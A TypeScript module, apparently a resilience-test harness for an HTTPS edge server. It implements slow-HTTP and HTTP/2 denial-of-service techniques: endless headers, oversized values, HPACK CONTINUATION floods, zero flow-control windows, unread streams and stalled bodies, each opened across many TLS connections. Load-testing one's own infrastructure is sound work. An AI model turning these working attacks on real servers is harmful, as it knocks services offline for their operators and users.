import { connect as connectTls, type TLSSocket } from 'node:tls'

/** What the attackers attack, and as whom: `from` is a local address. */
export type Attacked = { address: string; host: string; from?: string; certificate: Buffer }

export type Attack = Disposable & {
  /** How many connections were made, and how many of them are open still. */
  made: number
  open: () => number
}

type Clients = (attacked: Attacked, count: number) => Promise<Attack>

const H2_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const FRAME_MAX = 16_384
const FRAME = { data: 0, headers: 1, settings: 4, continuation: 9 } as const
const END_STREAM = 1
const END_HEADERS = 4
/** `accept-encoding: gzip, deflate` of HPACK's static table: one byte a field. */
const INDEXED_FIELD = 0x90

/** HTTP/1.1: headers of tiny fields that never end. */
export const sendTinyFields: Clients = (attacked, count) =>
  attack(attacked, count, 'http/1.1', `${requestLine(attacked.host)}${'a:\r\n'.repeat(140_000)}`)

/** HTTP/1.1: a header as large as the edge reads, all of it one value, that never ends. */
export const sendLargeValue: Clients = (attacked, count) =>
  attack(attacked, count, 'http/1.1', `${requestLine(attacked.host)}X: ${'x'.repeat(1_000_000)}`)

/** HTTP/1.1: one request, and nothing after its answer. */
export const keepAlive: Clients = (attacked, count) =>
  attack(attacked, count, 'http/1.1', `${requestLine(attacked.host)}\r\n`)

/** HTTP/2: a header block of one field again and again that never ends. */
export const sendIndexedFields: Clients = (attacked, count) => {
  const block = Buffer.concat([requestBlock(attacked.host), Buffer.alloc(26_000, INDEXED_FIELD)])
  const frames = [frame(FRAME.headers, END_STREAM, 1, block.subarray(0, FRAME_MAX))]
  for (let at = FRAME_MAX; at < block.length; at += FRAME_MAX) {
    frames.push(frame(FRAME.continuation, 0, 1, block.subarray(at, at + FRAME_MAX)))
  }
  return attack(attacked, count, 'h2', Buffer.concat([greeting(), ...frames]))
}

/** HTTP/2: as many requests as a connection takes, of whose answers nothing is taken. */
export const readNothing: Clients = (attacked, count) => {
  const block = requestBlock(attacked.host)
  const requests = Array.from({ length: 100 }, (_, index) =>
    frame(FRAME.headers, END_STREAM | END_HEADERS, 2 * index + 1, block),
  )
  return attack(attacked, count, 'h2', Buffer.concat([greeting(), ...requests]))
}

/** HTTP/2: bodies that begin and never end. */
export const sendSlowBodies: Clients = (attacked, count) => {
  const block = requestBlock(attacked.host, 0x83)
  const body = Array.from({ length: 3 }, () => frame(FRAME.data, 0, 1, Buffer.alloc(FRAME_MAX)))
  const headers = frame(FRAME.headers, END_HEADERS, 1, block)
  return attack(attacked, count, 'h2', Buffer.concat([greeting(), headers, ...body]))
}

const requestLine = (host: string) => `GET / HTTP/1.1\r\nHost: ${host}\r\n`

async function attack(
  { address, host, from, certificate }: Attacked,
  count: number,
  protocol: 'h2' | 'http/1.1',
  bytes: string | Buffer,
): Promise<Attack> {
  const sockets: TLSSocket[] = []
  const openOne = async () => {
    const socket = connectTls({
      ...{ host: address, port: 443, servername: host, ca: certificate, ALPNProtocols: [protocol] },
      ...(from === undefined ? {} : { localAddress: from }),
    })
    sockets.push(socket)
    const { promise, resolve } = Promise.withResolvers<void>()
    socket.on('error', () => socket.destroy())
    socket.once('secureConnect', resolve).once('close', resolve)
    await promise
    // Read, so that its end is seen; an answer of HTTP/2 has no window to come through.
    if (!socket.destroyed) socket.resume().write(bytes)
  }
  // A few at a time: what is measured is what the edge holds, not how fast it shakes hands.
  const lanes = Array.from({ length: 8 }, async () => {
    while (sockets.length < count) await openOne()
  })
  await Promise.all(lanes)
  return {
    made: sockets.length,
    open: () => sockets.filter((socket) => !socket.destroyed && !socket.closed).length,
    [Symbol.dispose]: () => {
      for (const socket of sockets) socket.destroy()
    },
  }
}

/** Preface and settings, with windows in which no answer fits. */
function greeting(): Buffer {
  const noWindow = Buffer.from([0, 4, 0, 0, 0, 0])
  return Buffer.concat([H2_PREFACE, frame(FRAME.settings, 0, 0, noWindow)])
}

/** HPACK: method (0x82 GET, 0x83 POST), https, `/`, and the host as a literal. */
function requestBlock(host: string, method = 0x82): Buffer {
  return Buffer.concat([
    Buffer.from([method, 0x87, 0x84, 0x01, host.length]),
    Buffer.from(host, 'latin1'),
  ])
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
